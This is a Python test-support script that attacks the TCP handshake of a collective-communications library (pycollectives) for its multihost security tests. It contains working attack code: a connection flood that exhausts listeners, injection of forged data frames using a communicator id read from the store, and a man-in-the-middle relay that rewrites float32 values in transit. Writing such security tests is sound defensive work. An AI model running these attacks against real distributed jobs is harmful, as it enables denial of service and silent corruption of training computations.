"""The TCP transport's handshake seen from outside (csrc/transport/tcp/tcp_auth.h,
written here again from its description, with Python's hmac), for the tests
that attack a job: a Hello of either protocol version, the MACs a key holder
computes, the key a job derives, the frames an injector would send.

Run as a script (`ip netns exec <ns> python tests/support/attacker.py --target ...`)
inside an attacker's network namespace, it floods listeners: it holds
`--count` idle connections from one source address and as many from several
others that send the start of a Hello and stop, reopening each one a
listener drops, until --stop appears (see test_multihost_security.py)."""

from __future__ import annotations

import argparse
import contextlib
import hashlib
import hmac
import ipaddress
import os
import resource
import socket
import struct
import sys
import time

MAGIC = 0x3170636F6C6C7970
VERSION = 2
CONTROL, DATA = 1, 2
HELLO = struct.Struct("=QII16siiii32s")  # magic version kind id from to stripe world nonce
CHALLENGE = struct.Struct("=Qii32s32s")  # magic rank status nonce mac
ACK = struct.Struct("=Qii")  # magic rank status
DATA_HEADER = struct.Struct("=IIQQQ")  # seq flags w0 w1 bytes
CTL_HEADER = struct.Struct("=II")  # type bytes


def hello(comm_id: bytes, frm: int, to: int, kind: int = DATA, stripe: int = 0, world: int = 2,
          nonce: bytes | None = None) -> bytes:  # fmt: skip
    """A Hello of the current protocol (version 2)."""
    nonce = os.urandom(32) if nonce is None else nonce
    return HELLO.pack(MAGIC, VERSION, kind, comm_id, frm, to, stripe, world, nonce)


def hello_v1(comm_id: bytes, frm: int, to: int, kind: int = DATA, world: int = 2) -> bytes:
    """A Hello of version 1 (before the handshake was authenticated): the
    communicator's id alone admitted a connection."""
    return struct.pack("=QII16siiii", MAGIC, 1, kind, comm_id, frm, to, 0, world)


def derive_key(secret: bytes, comm_id: bytes) -> bytes:
    """The communicator's key: HMAC(secret, label || id)."""
    return hmac.new(
        secret, b"pycollectives/2 communicator key\0" + comm_id, hashlib.sha256
    ).digest()


def mac(
    key: bytes, server: bool, hello_bytes: bytes, nonce_s: bytes, addr: tuple[str, int]
) -> bytes:
    """One side's MAC over a handshake; `addr`: the accepting side's listening address."""
    label = b"pycollectives/2 accepting side\0" if server else b"pycollectives/2 connecting side\0"
    ip = ipaddress.ip_address(addr[0])
    bound = bytes([6 if ip.version == 6 else 4, 0]) + struct.pack(">H", addr[1])
    bound += ip.packed.ljust(16, b"\0")
    return hmac.new(key, label + hello_bytes + nonce_s + bound, hashlib.sha256).digest()


def recv_exact(s: socket.socket, n: int) -> bytes:
    """n bytes from s, or fewer if it closes or its timeout passes."""
    out = b""
    with contextlib.suppress(TimeoutError):
        while len(out) < n:
            chunk = s.recv(n - len(out))
            if not chunk:
                break
            out += chunk
    return out


def connect_as(
    key: bytes,
    comm_id: bytes,
    target: tuple[str, int],
    frm: int,
    to: int,
    kind: int = DATA,
    stripe: int = 0,
    world: int = 2,
) -> tuple[socket.socket, int]:
    """The connecting side of a handshake, for a holder of the key: the
    socket and the status of the peer's last answer (0: adopted), after
    checking the peer's MAC (AssertionError if it does not verify)."""  # fmt: skip
    s = socket.create_connection(target, timeout=10)
    h = hello(comm_id, frm, to, kind, stripe, world)
    s.sendall(h)
    _, rank, status, nonce, their = CHALLENGE.unpack(recv_exact(s, CHALLENGE.size))
    if status != 0:
        return s, status
    assert hmac.compare_digest(their, mac(key, True, h, nonce, target)), "the peer's MAC"
    s.sendall(mac(key, False, h, nonce, target))
    return s, ACK.unpack(recv_exact(s, ACK.size))[2]


def frame(seq: int, w0: int, count: int, payload: bytes) -> bytes:
    """A data frame (tcp_socket.h's DataHeader, then the payload)."""
    return DATA_HEADER.pack(seq, 0, w0, count, len(payload)) + payload


def all_reduce_w0(dtype: int = 0, op: int = 0) -> int:
    """OpSig::word0 of an all-reduce (kind 0) of `dtype` (0: float32) with `op` (0: sum)."""
    return 0 | dtype << 8 | op << 16


_stores: dict = {}


def store_get(host: str, port: int, key: str, timeout: float = 60.0) -> bytes:
    """`key`'s value in the TCPStore at host:port, read as any client of it
    can (waiting for the key)."""
    import datetime

    import torch.distributed as dist

    if (host, port) not in _stores:
        _stores[(host, port)] = dist.TCPStore(
            host, port, is_master=False, timeout=datetime.timedelta(seconds=timeout)
        )
    return _stores[(host, port)].get(key)


def store_has(host: str, port: int, key: str) -> bool:
    store_get(host, port, "pycoll/0/commid")  # connects (the key exists by then)
    return _stores[(host, port)].check([key])


def store_address(text: str) -> tuple[str, int]:
    """(ip, port) of an address as the ranks publish it ("ip:port", "[ip6]:port")."""
    host, port = text.strip().rsplit(":", 1)
    return host.strip("[]"), int(port)


def _wait(path: str, seconds: float = 120.0) -> None:
    deadline = time.monotonic() + seconds
    while not os.path.exists(path):
        if time.monotonic() > deadline:
            raise SystemExit(f"attacker: {path} did not appear")
        time.sleep(0.005)


# ---- flood ------------------------------------------------------------------------------


def _targets(spec: str, done: set, seen: set) -> list[tuple[str, int]]:
    """The addresses `spec` names now, less those in `seen`: store:HOST:PORT:KEY
    (a value of the bootstrap store, as a reader of it takes it: once),
    file:PATH (ip:port, once the file exists: once) or proc:PIDFILE:IP (every
    TCP port listening in the network namespace of the process whose pid the
    file holds, as a port scan finds them: looked at again every time)."""
    kind, _, rest = spec.partition(":")
    if spec in done:
        return []
    if kind == "store":
        host, port, key = rest.split(":", 2)
        done.add(spec)
        found = [store_address(store_get(host, int(port), key).decode())]
    elif kind == "file":
        if not os.path.exists(rest):
            return []
        done.add(spec)
        with open(rest) as f:
            found = [store_address(f.read())]
    elif kind == "proc":
        pidfile, ip = rest.split(":", 1)
        if not os.path.exists(pidfile):
            return []
        with open(pidfile) as f:
            pid = f.read().strip()
        try:
            with open(f"/proc/{int(pid)}/net/tcp") as f:
                rows = [line.split() for line in f.readlines()[1:]]
        except (ValueError, FileNotFoundError):  # the pid half written, or the process gone
            return []
        found = [(ip, int(r[1].split(":")[1], 16)) for r in rows if r[3] == "0A"]  # LISTEN
    else:
        raise SystemExit(f"attacker: unknown target {spec!r}")
    return [t for t in found if t not in seen]


def _dead(s: socket.socket) -> str:
    """Why non-blocking socket s is gone: "refused" (nothing listens at its
    target: a closed port) or "dropped" (the listener closed it; what it sent
    before is read and dropped); "" while it is open or still connecting."""
    try:
        while s.recv(4096):
            pass
        return "dropped"
    except BlockingIOError:
        return ""
    except ConnectionRefusedError:
        return "refused"
    except OSError:
        return "dropped"


def _open(target: tuple[str, int], source: str) -> socket.socket | None:
    s = socket.socket(socket.AF_INET6 if ":" in target[0] else socket.AF_INET)
    s.setblocking(False)
    try:
        s.bind((source, 0))
        s.connect_ex(target)
    except OSError:
        s.close()
        return None
    return s


_TCP_STATES = {1: "established", 2: "syn-sent", 7: "close", 8: "close-wait", 11: "closing"}


def flood(args: argparse.Namespace) -> None:
    """Holds --count idle connections from --one and --count garbage ones
    (the start of a Hello, then nothing) from the --many addresses in turn to
    every target, reopening those a listener drops (at most 100 every 10 ms),
    until --stop exists; writes --ready once --wait-targets targets are
    flooded (their connections made and their bytes sent), a target that
    refuses connections (its port closed since it was found) counting as
    done: it never takes the bytes, and waiting for it held --ready back for
    as long as the flood went on (the ranks that waited for --ready hung)."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    many = args.many.split(",")
    slots: dict[tuple, socket.socket | None] = {}  # (target, source, garbage, i) -> socket
    unsent: dict[socket.socket, tuple[bytes, tuple]] = {}  # socket -> (its bytes, its target)
    closed: set = set()  # targets whose last answer was a refusal: nothing listens there
    done: set = set()
    seen: set = set()
    opened = dropped = 0
    ready = False
    deadline = time.monotonic() + 300
    while not os.path.exists(args.stop) and time.monotonic() < deadline:
        for spec in args.target:
            for t in _targets(spec, done, seen):
                seen.add(t)
                print(f"attacker: flooding {t}", file=sys.stderr, flush=True)
                for i in range(args.count):
                    slots[(t, args.one, False, i)] = None
                    slots[(t, many[i % len(many)], True, i)] = None
        budget = 100
        for key, s in slots.items():
            if s is not None:
                why = _dead(s)
                if not why:
                    continue
                if why == "refused":
                    closed.add(key[0])
                s.close()
                unsent.pop(s, None)
                dropped += 1
                slots[key] = None
                if budget == 0:
                    continue
                budget -= 1
            t, source, garbage, _ = key
            s = slots[key] = _open(t, source)
            opened += 1
            if s is not None and garbage:
                unsent[s] = (struct.pack("=QI", MAGIC, VERSION) + os.urandom(28), t)
        for s, (data, t) in list(unsent.items()):
            try:
                s.send(data)
                closed.discard(t)
            except BlockingIOError:
                continue  # not connected yet
            except ConnectionRefusedError:
                closed.add(t)
            except OSError:
                pass  # dropped by the listener: reopened above, next round
            del unsent[s]
        waiting = {t for _, t in unsent.values() if t not in closed}
        if not ready and len(seen) >= args.wait_targets and not waiting:
            time.sleep(0.05)  # the last ones reach the listeners
            with open(args.ready, "w") as f:
                f.write(f"{len(seen)} targets\n")
            ready = True
        time.sleep(0.01)
    # What it holds at the end, per target and TCP state, and what it still had to
    # send (what a failed run's report shows of the flood).
    held: dict = {}
    for (t, *_), s in slots.items():
        if s is not None:
            state = _TCP_STATES.get(s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0], "?")
            held.setdefault(t, {}).setdefault(state, 0)
            held[t][state] += 1
    unsent_to = sorted({t for _, t in unsent.values()})
    print(f"attacker: {len(seen)} targets, {opened} connections opened, {dropped} dropped by the"
          f" listeners; held at the end: {held}; unsent to {unsent_to}; refusing: {sorted(closed)};"
          f" ready: {ready}", file=sys.stderr, flush=True)  # fmt: skip
    for s in slots.values():
        if s is not None:
            s.close()


# ---- inject: the attack ---------------------------------------------------------


def inject(args: argparse.Namespace) -> None:
    """A reader of the store attacks rank 0 while it waits for rank 1 in its
    first all-reduce (one float32): it reads the communicator's id and rank
    0's address from the store, connects as rank 1's data connection and
    sends a frame of 1000.0, once with a version-1 Hello (the id alone
    admitted it) and once with a version-2 Hello and a proof it cannot make.
    Writes what it saw (JSON) to --report, then --done."""
    import json

    host, port = args.store.rsplit(":", 1)
    _wait(args.go)
    time.sleep(0.3)  # rank 0 is in its all-reduce
    comm_id = bytes.fromhex(store_get(host, int(port), "pycoll/0/commid").decode())
    target = store_address(store_get(host, int(port), "pycoll/0/addr/0").decode())
    report: dict = {"secret_in_store": store_has(host, int(port), "pycoll/0/authkey")}
    payload = struct.pack("=f", 1000.0)
    data = frame(1, all_reduce_w0(), 1, payload)
    with socket.create_connection(target, timeout=5) as s:
        s.sendall(hello_v1(comm_id, 1, 0) + data)
        report["v1_answer"] = recv_exact(s, 80).hex()
    with socket.create_connection(target, timeout=5) as s:
        s.sendall(hello(comm_id, 1, 0))
        ch = recv_exact(s, CHALLENGE.size)
        report["v2_challenge_status"] = (
            CHALLENGE.unpack(ch)[2] if len(ch) == CHALLENGE.size else None
        )
        s.sendall(os.urandom(32) + data)  # a proof it cannot compute, and the frame
        ack = recv_exact(s, ACK.size)
        report["v2_ack_status"] = ACK.unpack(ack)[2] if len(ack) == ACK.size else None
    with open(args.report, "w") as f:
        json.dump(report, f)
    open(args.done, "w").close()


# ---- relay: a writer of the store puts its own address in place of a rank's -------------


def relay(args: argparse.Namespace) -> None:
    """Listens on --listen and relays every connection to the real address
    (--real: its key in the store; default rank 1's), both ways, rewriting every float32 7.0 that
    goes towards rank 1 into 1000.0, until --stop exists."""
    import threading

    host, port = args.store.rsplit(":", 1)
    lhost, lport = store_address(args.listen)
    srv = socket.create_server((lhost, lport))
    srv.settimeout(0.1)
    seven, evil = struct.pack("=f", 7.0), struct.pack("=f", 1000.0)

    def pipe(src: socket.socket, dst: socket.socket, rewrite: bool) -> None:
        try:
            while chunk := src.recv(65536):
                dst.sendall(chunk.replace(seven, evil) if rewrite else chunk)
        except OSError:
            pass
        for s in (src, dst):
            with contextlib.suppress(OSError):
                s.shutdown(socket.SHUT_RDWR)

    real = None
    while not os.path.exists(args.stop):
        try:
            client, _ = srv.accept()
        except TimeoutError:
            continue
        real = real or store_address(store_get(host, int(port), args.real).decode())
        upstream = socket.create_connection(real, timeout=5)
        upstream.settimeout(None)
        client.settimeout(None)
        print(f"attacker: relaying a connection to {real}", file=sys.stderr, flush=True)
        threading.Thread(target=pipe, args=(client, upstream, True), daemon=True).start()
        threading.Thread(target=pipe, args=(upstream, client, False), daemon=True).start()


def main() -> None:
    ap = argparse.ArgumentParser(description="attacks for test_multihost_security.py")
    sub = ap.add_subparsers(dest="cmd", required=True)
    f = sub.add_parser("flood")
    f.add_argument("--target", action="append", required=True,
                   help="store:HOST:PORT:KEY, file:PATH or proc:PIDFILE:IP (repeatable)")  # fmt: skip
    f.add_argument("--count", type=int, default=300, help="connections per target and kind")
    f.add_argument("--one", required=True, help="the source address of the idle connections")
    f.add_argument("--many", required=True, help="source addresses of the garbage ones (a,b,..)")
    f.add_argument("--ready", required=True)
    f.add_argument("--stop", required=True)
    f.add_argument("--wait-targets", type=int, default=1)
    i = sub.add_parser("inject")
    i.add_argument("--store", required=True, help="HOST:PORT of the bootstrap store")
    i.add_argument("--go", required=True)
    i.add_argument("--report", required=True)
    i.add_argument("--done", required=True)
    r = sub.add_parser("relay")
    r.add_argument("--store", required=True)
    r.add_argument("--listen", required=True, help="IP:PORT")
    r.add_argument("--stop", required=True)
    r.add_argument("--real", default="pycoll/0/addr/1", help="the store key of the real address")
    args = ap.parse_args()
    {"flood": flood, "inject": inject, "relay": relay}[args.cmd](args)
    sys.stderr.flush()
    os._exit(0)  # not through the interpreter's teardown, which a store client can hold up


if __name__ == "__main__":
    main()
